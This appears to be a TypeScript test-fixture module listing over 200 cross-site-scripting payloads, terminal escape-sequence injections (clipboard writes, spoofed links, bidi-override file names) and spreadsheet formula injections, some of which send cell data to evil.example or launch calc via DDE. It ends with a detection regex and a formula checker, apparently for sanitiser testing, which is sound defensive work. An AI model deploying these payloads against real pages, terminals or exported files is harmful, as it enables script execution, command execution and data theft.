/** Texts that are made to be more than text: in a page, a terminal, a spreadsheet. */

/** What runs, where it runs. */
const HIT = 'window.hits=1';
const ENTITIES = '&#119;indow.hits&#61;1';
const UNICODE = '\\u0077indow.hits=1';

/** Ends of what a text may be put into. */
const ENDS = [
  ...[
    '',
    '">',
    "'>",
    '-->',
    ']]>',
    '</title>',
    '</style>',
    '</script>',
    '</textarea>',
    '</svg>',
    '</noscript>',
  ],
  ...['</bdi></p></main>', '*/</style>', '`>', '</template>', '</iframe>', '</xmp>', '</plaintext>'],
];
const TAGS = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<script type=module>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src=x onerror=${ENTITIES}>`,
  `<svg onload="${HIT}">`,
  `<svg><script>${HIT}</script></svg>`,
];
const ONCE = [
  ...['autofocus onfocus', 'onclick', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin', 'onload'].flatMap(
    (event) => [`" ${event}="${HIT}" x="`, `' ${event}='${HIT}' x='`, ` ${event}=${HIT} `],
  ),
  `<script>${UNICODE}</script>`,
  `<script\u0020>${HIT}</script\n>`,
  `<script/x>${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<scr\0ipt>${HIT}</script>`,
  `<img/src=x/onerror=${HIT}>`,
  `<img src="x\`\`onerror=${HIT}">`,
  `<input autofocus onfocus="${HIT}">`,
  `<details open ontoggle="${HIT}">`,
  `<video><source onerror="${HIT}"></video>`,
  `<audio src=x onerror="${HIT}">`,
  `<body onload="${HIT}">`,
  `<marquee onstart="${HIT}">`,
  `<object data="data:text/html,<script>parent.${HIT}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload='${HIT}'>">`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}></svg>#x"></svg>`,
  `<svg><foreignObject><body onload="${HIT}"></body></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${HIT}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}">`,
  `<math href="javascript:${HIT}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<template><script>${HIT}</script></template>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="java\tscript:${HIT}">x</a>`,
  `<a href="&#106;avascript:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${HIT}">x</button>`,
  `<isindex type=image src=1 onerror=${HIT}>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<link rel=import href="data:text/html,<script>${HIT}</script>">`,
  `<style>*{background:url("javascript:${HIT}")}</style>`,
  `<style>@import "data:text/css,*{color:red}";</style>`,
  `<p style="background:url(https://example.invalid/x)">x</p>`,
  `<p style="width:expression(${HIT})">x</p>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://example.invalid/">`,
  `<!--><script>${HIT}</script>-->`,
  `<!-- --!><img src=x onerror="${HIT}">`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${HIT}</script>`,
  `<?php ${HIT} ?>`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${HIT}\uFF1C/script\uFF1E`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `\\x3cscript\\x3e${HIT}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `javascript:${HIT}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${HIT}//'>`,
  `data:text/html,<script>${HIT}</script>`,
  `\${${HIT}}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `<%= ${HIT} %>`,
  `#{${HIT}}`,
  `';${HIT};//`,
  `";${HIT};//`,
  `\`;${HIT};//`,
  `"}};${HIT};//`,
  `\u2028${HIT}\u2029`,
  `<plaintext>`,
  `<title>x`,
  `<textarea>`,
  `<select><option>`,
  `<table><tr><td>`,
  `</table></section></main></body></html><script>${HIT}</script>`,
  `[x](javascript:${HIT})`,
  `[x]: javascript:${HIT}`,
  `![x](https://example.invalid/x.png"onerror="${HIT})`,
  `<javascript:${HIT}>`,
  `\`\`\`\n<script>${HIT}</script>\n\`\`\``,
  `---\nlibrary_name: evil\n---\n# no`,
  `: {x: [*a, &a !!js/function "${HIT}"]}`,
]; // prettier-ignore

/** 200 and more texts that would run as soon as one is taken for markup; each sets `window.hits`. */
export const MARKUP: readonly string[] = [...ENDS.flatMap((end) => TAGS.map((tag) => end + tag)), ...ONCE];

const ESC = '\u001b';
/** What moves a terminal's cursor, writes to its title or clipboard, links, or turns the order of characters round. */
export const CONTROLS: readonly string[] = [
  ...[`${ESC}[31mred${ESC}[0m`, `${ESC}[2J`, `${ESC}[1;1H`, `${ESC}[1A${ESC}[2K`, `${ESC}[?25l`, `${ESC}[6n`, `${ESC}[c`],
  ...[`${ESC}[8mhidden`, `${ESC}[?1049h`, `${ESC}[200~ls${ESC}[201~`, `${ESC}[21t`, `${ESC}[3g`, `${ESC}[5i`, `${ESC}[99999999b`],
  ...[`${ESC}]0;title\u0007`, `${ESC}]2;title${ESC}\\`, `${ESC}]8;;https://evil.example\u0007x${ESC}]8;;\u0007`],
  ...[`${ESC}]52;c;cm0gLXJm\u0007`, `${ESC}]1337;File=inline=1:AA==\u0007`, `${ESC}]7;file:///\u0007`, `${ESC}]4;1;?\u0007`],
  ...[`${ESC}P+q544e\u001b\\`, `${ESC}_x${ESC}\\`, `${ESC}^x${ESC}\\`, `${ESC}X x${ESC}\\`, `${ESC}c`, `${ESC}7${ESC}8`, `${ESC}(0`, `${ESC}#8`],
  ...['\u009b31m', '\u009b2J', '\u009d0;title\u009c', '\u0090q\u009c', '\u009fx\u009c', '\u0085', '\u008d', '\u008e', '\u0080'],
  ...['a\rb', 'a\bb', 'a\u007fb', '\u0007', '\u000e', '\u000f', '\u000b', '\u000c', '\u0000', '\u001a', '\u0004', '\ta'],
  ...['a\n---\nx: y', 'a\r\n# no', '\u2028x', '\u2029x', '\u202egpj.exe', '\u202dx', '\u202ax', '\u202bx', '\u202cx', '\u2066x', '\u2067x\u2069'],
  ...['\u2068x', '\u061cx', '\u200ex', '\u200fx', '\ufeffx', '\u001bN\u001bO', '\u001b\u001b[2J'],
]; // prettier-ignore

/** What a spreadsheet would calculate or run. */
export const FORMULAS: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example?"&A1,"x")', '=IMPORTXML("x","//a")'],
  ...['=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc";"x")', '+cmd|x', '-cmd|x', '@cmd|x', '=', '+', '-', '@', '=-1', '--1', '-+1'],
  ...[' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\u2003@x', '\u200b=1+1', '\0=1+1', '\u001f=1+1'],
  ...['\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20x', '=\n1', '"=1+1', '=1+1"', '="x"', "=1+1,'x'", '=1+1;x', '+A1', '-A1', '-2+3', '+49 (0)30 1'],
  ...['-1e5x', '- no', '-0x1F', '=TRUE', '=A1&"x"', '@', '+-@=', '\u2212=1', '=\u202e1'],
]; // prettier-ignore

/** What may not reach a terminal from a file: controls but for the ends of lines, and what changes the order of characters. */
export const HARMFUL =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

/** Whether a spreadsheet that skips what can't be seen would calculate a field. */
export function isFormula(field: string): boolean {
  const isNumber = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(field);
  return /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(field) && !isNumber;
}
